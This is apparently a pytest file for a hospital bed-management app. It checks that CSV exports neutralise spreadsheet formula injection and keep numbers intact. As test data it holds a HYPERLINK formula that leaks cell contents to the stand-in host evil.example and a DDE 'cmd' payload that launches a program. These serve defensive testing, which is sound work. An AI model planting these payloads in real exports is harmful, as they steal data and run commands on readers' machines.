"""CSV formula injection (issue 17, finding 11): text a person typed cannot become a formula
in a spreadsheet opened from any CSV Wardflow writes; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest

from app import csvsafe
from app.interop import mhsds
from app.reports import export
from tests.factories import patient_body
from tests.interop.helpers import post

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Priory = Roehampton", "Priory = Roehampton"),  # only the first character matters
        ("-0.1", "-0.1"),  # a longitude west of Greenwich: data, not a formula
        ("+44", "+44"),
        ("-1e3", "-1e3"),
        (-0.1, -0.1),
        (-3, -3),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_it_is_text_that_would_be_a_formula(value, written):
    assert csvsafe.cell(value) == written


async def test_a_provider_name_that_is_a_formula_reaches_the_mhsds_export_as_text(
    client, world, session, signed_in
):
    person = await post(client, world, "/patients", patient_body(home_locality_code="LDS"))
    await post(
        client,
        world,
        "/out-of-area-placements",
        {
            "patient_id": person["id"],
            "provider_name": HYPERLINK,
            "latitude": 51.5074,
            "longitude": -0.1278,
            "bed_type": "200",
            "reason_code": "10",
            "started_at": "2026-02-10T12:00:00Z",
        },
        user="beds",
    )
    extract = await mhsds.build(session, date(2026, 2, 1))
    [row] = list(csv.DictReader(io.StringIO(extract.csv("OutOfAreaPlacements"))))
    assert row["ProviderName"] == "'" + HYPERLINK
    assert row["DistanceFromHomeKm"].isdigit()  # numbers untouched

    # The same through the admin's download (the zip of the same CSV files).
    admin = await signed_in("admin")
    r = await admin.get("/admin/exports/mhsds.zip", params={"month": "2026-02"})
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as archive:
        text = archive.read("OutOfAreaPlacements.csv").decode()
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["ProviderName"] == "'" + HYPERLINK


def test_the_report_csv_neutralises_text_and_keeps_negative_numbers():
    from tests.reports.blank import blank_report

    report = blank_report(
        delayed_discharge={"delay_days": 2, "people_at_end": 1, "by_reason": {"=cmd": 2},
                           "by_attributable": {}},
        trends={
            "x": {
                "label": "X", "unit": "", "concern": "up", "decimals": 1,
                "weeks": ["2026-03-29"],
                "values": [-0.1],
                "spc": {"mean": -0.1, "mr_mean": None, "upper": 1.0, "lower": -1.2,
                        "signals": [[]], "provisional": True},
                "reading": "X -0.1",
            }
        },
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(export.to_csv(report))))
    assert ["delayed_discharge.delay_days", "reason", "'=cmd", "2"] in rows
    assert ["trend.x", "week_ending", "2026-03-29", "-0.1"] in rows
    assert ["trend.x.lower", "all", "all", "-1.2"] in rows
